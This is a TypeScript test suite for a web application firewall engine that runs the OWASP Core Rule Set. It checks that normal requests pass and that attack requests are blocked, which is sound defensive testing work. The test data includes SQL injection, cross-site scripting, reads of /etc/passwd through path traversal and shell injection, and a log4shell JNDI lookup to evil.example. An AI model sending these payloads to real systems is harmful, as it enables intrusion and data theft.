import assert from 'node:assert/strict'
import { existsSync, readdirSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import { describe, it } from 'node:test'
import { formatDiagnostic } from '../../kit/diagnostic.ts'
import { compile } from '../compile/compile.ts'
import { send, type TestRequest } from '../testing/requests.ts'
import type { CompileOptions, Program } from '../types.ts'

/** Both releases of the CRS, with the settings and base rules of an installation. */

const folder = join(import.meta.dirname, '../../../../shared/crs')
const skip = existsSync(folder) ? false : 'the rule sets are not here (../shared/crs)'

const base = `
  SecResponseBodyMimeType text/plain text/html text/xml application/json
  SecRule REQUEST_HEADERS:Content-Type "@rx ^(?:application(?:/soap\\+|/)|text/)xml" \\
    "id:200000,phase:1,t:none,t:lowercase,pass,nolog,ctl:requestBodyProcessor=XML"
  SecRule REQUEST_HEADERS:Content-Type "@rx ^application/json" \\
    "id:200001,phase:1,t:none,t:lowercase,pass,nolog,ctl:requestBodyProcessor=JSON"
  SecRule REQBODY_ERROR "!@eq 0" "id:200002,phase:2,t:none,log,deny,status:400,msg:'broken body'"`

const levels: Readonly<Record<string, string>> = {
  '4.28.0': 'blocking_paranoia_level',
  '3.3.10': 'paranoia_level',
}

function load(version: string, level: number, options: Partial<CompileOptions> = {}): Program {
  const read = (...path: string[]): string => readFileSync(join(folder, version, ...path), 'latin1')
  const names = readdirSync(join(folder, version, 'rules')).filter(name => name.endsWith('.conf'))
  const files = [
    { name: 'base.conf', text: base },
    {
      name: 'level.conf',
      text: `SecAction "id:900000,phase:1,nolog,pass,setvar:tx.${levels[version]}=${level}"`,
    },
    { name: 'crs-setup.conf', text: read('crs-setup.conf.example') },
    ...names.sort().map(name => ({ name: `rules/${name}`, text: read('rules', name) })),
  ]
  const outcome = compile(files, { readData: name => read('rules', name), ...options })
  assert.ok(outcome.ok, outcome.ok ? '' : outcome.diagnostics.map(formatDiagnostic).join('\n'))
  return outcome.value
}

const browser: readonly (readonly [string, string])[] = [
  ['Host', 'www.example.com'],
  ['User-Agent', 'Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0'],
  ['Accept', 'text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8'],
  ['Accept-Language', 'en-GB,en;q=0.5'],
  ['Accept-Encoding', 'gzip, deflate, br'],
  ['Referer', 'https://www.example.com/shop/'],
  ['Cookie', '_ga=GA1.2.1234567890.1700000000; session=0123456789abcdef'],
  ['Connection', 'keep-alive'],
]

function post(type: string, body: string): TestRequest {
  const headers = [...browser, ['Content-Type', type], ['Content-Length', String(body.length)]] as const
  return { method: 'POST', target: '/submit', headers, body }
}

const ordinary: readonly { name: string; request: TestRequest }[] = [
  { name: 'a page', request: { target: '/', headers: browser } },
  { name: 'a search', request: { target: '/search?q=red+shoes&page=2&sort=price_asc', headers: browser } },
  { name: 'a picture', request: { target: '/img/logo-2x.png?v=1.2.3', headers: browser } },
  {
    name: 'a form',
    request: post('application/x-www-form-urlencoded', 'name=Ann+Smith&city=York&note=See+you+on+Monday'),
  },
  { name: 'JSON', request: post('application/json', '{"name":"Ann","items":[{"sku":"A-1","count":2}]}') },
]

/** Rule ids with their last three digits cut: 942 stands for some rule of the SQL injection file. */
const attacks: readonly { name: string; request: TestRequest; want: readonly number[] }[] = [
  { name: 'SQL', request: { target: '/?id=1%27%20or%20%271%27=%271', headers: browser }, want: [942] },
  { name: 'script', request: { target: '/?q=<script>alert(1)</script>', headers: browser }, want: [941] },
  { name: 'path', request: { target: '/?f=../../etc/passwd', headers: browser }, want: [930] },
  { name: 'shell', request: { target: '/?c=;cat%20/etc/passwd', headers: browser }, want: [930, 932] },
  {
    name: 'script in JSON',
    request: post('application/json', '{"a":["<script>alert(1)</script>"]}'),
    want: [941],
  },
  {
    name: 'SQL in a form',
    request: post('application/x-www-form-urlencoded', 'a=1+union+select+1,2'),
    want: [942],
  },
  {
    name: 'a cookie',
    request: { headers: [...browser, ['Cookie', 'x=<script>alert(1)</script>']] },
    want: [941],
  },
  {
    name: 'a scanner',
    request: {
      headers: [
        ['Host', 'a.example'],
        ['User-Agent', 'sqlmap/1.0'],
      ],
    },
    want: [913],
  },
]

for (const version of ['4.28.0', '3.3.10']) {
  describe(`CRS ${version}`, { skip }, () => {
    const rules = skip ? undefined : load(version, 1)

    for (const { name, request } of ordinary) {
      it(`lets ${name} pass`, () => assert.deepEqual(send(rules!, request).matched, []))
    }

    for (const { name, request, want } of attacks) {
      it(`stops ${name}`, () => {
        const { transaction, interruption } = send(rules!, request)
        const files = new Set(transaction.matches.map(match => Math.floor(match.rule.id / 1000)))
        for (const file of want) assert.ok(files.has(file), `${file} among ${[...files]}`)
        assert.deepEqual(interruption, { ruleId: 949110, action: 'deny', status: 403 })
        assert.ok(transaction.requestScore >= 5)
      })
    }

    it('knows which rules detect', () => {
      const count = (role: string): number => rules!.rules.filter(rule => rule.role === role).length
      assert.deepEqual([count('request'), count('response')], version === '4.28.0' ? [286, 59] : [213, 28])
      assert.ok(rules!.rules.every(rule => rule.role === 'support' || rule.score > 0))
    })

    it('a broken body is denied by the base rules', () => {
      const { interruption } = send(rules!, post('application/json', '{"a":'))
      assert.deepEqual(interruption, { ruleId: 200002, action: 'deny', status: 400 })
    })

    it('leaks in responses are found, and ignored when response rules are off', () => {
      const response = { body: '<title>x</title> You have an error in your SQL syntax; check the manual' }
      const request: TestRequest = { target: '/', headers: browser, response }
      const found = send(rules!, request)
      assert.ok(found.transaction.responseScore > 0)
      assert.equal(found.interruption?.ruleId, 959100)
      const requestOnly = rules!.mask(rule => rule.role === 'response')
      const { transaction } = send(rules!, request, requestOnly)
      assert.equal(transaction.wantsResponseBody, false)
      assert.deepEqual(transaction.matches, [])
    })
  })
}

describe('CRS 4.28.0 in detail', { skip }, () => {
  const strict = skip
    ? undefined
    : load('4.28.0', 4, {
        passive: [
          [949000, 949999],
          [959000, 959999],
        ],
      })

  it('passive evaluation rules still match and report', () => {
    const { matched, interruption } = send(strict!, { target: '/?a=union+select+1', headers: browser })
    assert.equal(interruption, undefined)
    assert.ok(matched.some(match => match.startsWith('949110 Inbound Anomaly Score Exceeded (Total Score: ')))
    assert.ok(matched.some(match => match.startsWith('980170 ')))
  })

  it('log4shell is found by the rules for Java', () => {
    const { transaction } = send(strict!, { target: '/?x=$%7Bjndi:ldap://evil.example/a}', headers: browser })
    assert.ok(transaction.matches.some(match => match.rule.id === 944150))
  })

  it('the anomaly score of the CRS grows with the number of values, requestScore does not', () => {
    const headers = browser.filter(([name]) => name !== 'Cookie')
    const scores = [1, 2, 3].map(count => {
      const query = Array.from({ length: count }, (_, i) => `a${i}=union+select+1`).join('&')
      const { transaction } = send(strict!, { target: `/?${query}`, headers })
      const total = transaction.matches.find(match => match.rule.id === 949110)?.message
      return [Number(/[0-9]+\)$/.exec(total ?? '')?.[0].slice(0, -1)), transaction.requestScore]
    })
    assert.deepEqual(scores, [
      [20, 20],
      [40, 20],
      [60, 20],
    ])
  })

  it('exclusions of file 999 reach rules above it', () => {
    const cookie = (name: string): TestRequest => ({
      headers: [
        ['Host', 'a.example'],
        ['Cookie', `${name}=a(b)c(d)e(f)`],
      ],
    })
    const ids = (name: string): number[] =>
      send(strict!, cookie(name)).transaction.matches.map(m => m.rule.id)
    assert.ok(ids('other').includes(942421))
    assert.ok(!ids('_ga_ABC').includes(942421))
  })

  it('sampling switches rules of all phases off by their tag', () => {
    const files = 'SecAction "id:1,phase:1,nolog,setvar:tx.sampling_percentage=0"'
    const rules = readdirSync(join(folder, '4.28.0/rules'))
      .filter(name => /901|941|949/.test(name))
      .sort()
    const outcome = compile(
      [
        { name: 'a.conf', text: `${files}\nSecAction "id:2,phase:1,nolog,setvar:tx.crs_setup_version=4280"` },
        ...rules
          .filter(name => name.endsWith('.conf'))
          .map(name => ({ name, text: readFileSync(join(folder, '4.28.0/rules', name), 'latin1') })),
      ],
      { readData: () => undefined },
    )
    assert.ok(outcome.ok)
    const { transaction } = send(outcome.value, { target: '/?q=<script>alert(1)</script>' })
    assert.deepEqual(
      transaction.matches.map(match => match.rule.id),
      [901450],
    )
  })
})
